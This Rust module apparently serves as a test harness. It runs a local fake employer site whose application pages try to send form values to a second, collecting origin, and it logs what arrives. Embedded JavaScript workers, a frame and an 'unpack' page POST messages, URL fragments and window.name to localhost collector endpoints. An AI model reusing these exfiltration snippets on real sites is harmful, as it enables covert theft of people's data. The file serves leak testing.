//! An employer whose application form tries to send the person's values early.
//!
//! Each [`Scenario`] is one page that tries one way, at `/{scenario}/jobs/{n}/`; an
//! honest submission goes to `…/applications` below it and is answered with a
//! confirmation page. Another origin collects what pages send there.
//!
//! A browser needs to reach `127.0.0.1`, `localhost` and `*.localhost`, which
//! Chromium resolves to this machine by itself. Host names asked of a name server
//! are not observed.

use crate::log::{Arrival, Log, Road};
use crate::wire::{Reply, Request, Server};
use std::io;
use std::net::SocketAddr;
use std::sync::Arc;

mod scenarios;

pub use scenarios::{Provocation, SCENARIOS, Scenario};

/// The running servers; they end when it is dropped.
#[derive(Debug)]
pub struct Hostile {
    employer: SocketAddr,
    log: Log,
    _server: Server,
}

impl Hostile {
    /// Starts on free ports of this machine.
    ///
    /// # Errors
    /// When no port can be opened.
    pub async fn start() -> io::Result<Self> {
        let (log, mut server) = (Log::default(), Server::default());
        let datagrams = server.listen_udp(&log).await?;
        let elsewhere = server.serve(Road::Elsewhere, &log, Arc::new(collect)).await?;
        let answer = move |request: &Request<'_>| answer(request, elsewhere, datagrams);
        let employer = server.serve(Road::Employer, &log, Arc::new(answer)).await?;
        Ok(Self { employer, log, _server: server })
    }

    /// The address of posting number `n` of a scenario.
    #[must_use]
    pub fn posting(&self, scenario: &Scenario, n: u32) -> String {
        format!("http://{}/{}/jobs/{n}/", self.employer, scenario.id)
    }

    /// Everything that reached the employer and the other origin.
    #[must_use]
    pub fn log(&self) -> &Log {
        &self.log
    }

    /// Arrivals caused by the pages of a scenario.
    #[must_use]
    pub fn caused_by(&self, scenario: &Scenario) -> Vec<Arrival> {
        let address = format!("/{}/", scenario.id);
        let arrivals = self.log.arrivals().into_iter();
        arrivals
            .filter(|arrival| match arrival.road {
                Road::Employer | Road::Elsewhere | Road::WebSocket => arrival.target.starts_with(&address),
                // What these roads carry has no address; a greeting at least names the host.
                Road::Bytes => scenario.id == greeted(arrival),
                Road::Datagram => scenario.id == "peer-connection",
            })
            .collect()
    }

    /// Posts to where an application of posting `n` belongs, whenever they came.
    #[must_use]
    pub fn applications(&self, scenario: &Scenario, n: u32) -> Vec<Arrival> {
        let path = format!("/{}/jobs/{n}/applications", scenario.id);
        let arrivals = self.log.arrivals().into_iter();
        arrivals.filter(|a| a.road == Road::Employer && a.method == "POST" && a.path() == path).collect()
    }
}

/// The scenario whose host a TLS greeting names.
fn greeted(arrival: &Arrival) -> &'static str {
    const NAME: &[u8] = b".preconnect.";
    let named = [&arrival.head, &arrival.body].into_iter().any(|part| part.windows(NAME.len()).any(|w| w == NAME));
    if named { "preconnect" } else { "host-name" }
}

const WORKER: &str = "onmessage = e => fetch('collect', { method: 'POST', body: e.data });";
const SHARED_WORKER: &str =
    "onconnect = c => { c.ports[0].onmessage = e => fetch('collect', { method: 'POST', body: e.data }); };";
const SERVICE_WORKER: &str = "addEventListener('activate', e => e.waitUntil(clients.claim()));
addEventListener('message', e => e.waitUntil(fetch('collect', { method: 'POST', body: e.data })));";
const FRAME: &str = "<!doctype html><title>Chat</title><script>onmessage = e => fetch('collect', { method: 'POST', body: e.data });</script>";
const UNPACK: &str = "<!doctype html><title>Welcome</title><h1>Welcome</h1>
<script>fetch('draft', { method: 'POST', body: decodeURIComponent(location.hash) + window.name });</script>";
const CONFIRMATION: &str = "<!doctype html><title>Application received</title><h1>Application received</h1>
<p>Thank you. Your application for Night Watch Engineer at Harbour Lights has been received.</p>";

/// The employer's answers.
fn answer(request: &Request<'_>, elsewhere: SocketAddr, datagrams: SocketAddr) -> Reply {
    let script = |text: &str| Reply::new(200, "text/javascript", text);
    let parts: Vec<&str> = request.path().trim_matches('/').split('/').collect();
    let scenario = SCENARIOS.iter().find(|s| parts.first() == Some(&s.id));
    match (request.method, scenario, parts.get(1..).unwrap_or_default()) {
        ("GET", Some(scenario), ["jobs", n]) if !n.is_empty() => page(scenario, elsewhere, datagrams),
        ("POST", Some(scenario), ["jobs", n, "applications"]) => {
            Reply::redirect(303, format!("/{}/jobs/{n}/confirmation", scenario.id))
        }
        ("GET", Some(_), ["jobs", _, "confirmation"]) => Reply::html(CONFIRMATION),
        ("GET", Some(_), [.., "worker.js"]) => script(WORKER),
        ("GET", Some(_), [.., "shared-worker.js"]) => script(SHARED_WORKER),
        ("GET", Some(_), [.., "service-worker.js"]) => script(SERVICE_WORKER),
        ("GET", Some(_), [.., "unpack"]) => Reply::html(UNPACK),
        ("GET", Some(_), [.., "terms.txt" | "pixel.gif"]) => Reply::new(200, "text/plain", "."),
        ("GET", Some(_), [.., "step-2" | "speculated"]) => Reply::html("<!doctype html><title>Step 2</title>"),
        _ => Reply::new(404, "text/plain", "Not found"),
    }
}

fn page(scenario: &Scenario, elsewhere: SocketAddr, datagrams: SocketAddr) -> Reply {
    let html = include_str!("hostile/form.html")
        .replace("{{extra}}", scenario.extra)
        .replace("{{elsewhere}}", &format!("http://localhost:{}/{}", elsewhere.port(), scenario.id))
        .replace("{{datagrams}}", &datagrams.to_string())
        .replace("{{script}}", scenario.script);
    match scenario.id {
        "reporting" => Reply::html(html)
            .header("Reporting-Endpoints", r#"main="report""#)
            .header("Content-Security-Policy", "img-src 'none'; report-to main"),
        "csp-report" => Reply::html(html).header("Content-Security-Policy", "img-src 'none'; report-uri report"),
        _ => Reply::html(html),
    }
}

/// The other origin takes everything.
fn collect(request: &Request<'_>) -> Reply {
    let reply = match request.path().rsplit('/').next().unwrap_or_default() {
        "socket" => return Reply::web_socket(),
        "frame.html" => Reply::html(FRAME),
        "events" => Reply::new(200, "text/event-stream", ": nothing\n\n"),
        "lib.js" => Reply::new(200, "text/javascript", ""),
        _ => Reply::new(200, "text/plain", ""),
    };
    reply.header("Access-Control-Allow-Origin", "*").header("Access-Control-Allow-Headers", "*")
}
